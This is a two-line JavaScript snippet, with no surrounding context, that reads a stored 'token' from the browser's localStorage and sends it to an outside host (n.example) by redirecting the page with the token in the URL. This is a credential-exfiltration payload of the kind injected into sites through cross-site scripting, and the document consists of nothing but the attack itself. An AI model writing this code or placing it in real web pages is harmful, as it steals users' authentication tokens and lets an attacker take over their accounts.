const t = localStorage.getItem('token');
location.href = 'https://n.example/?t=' + t;
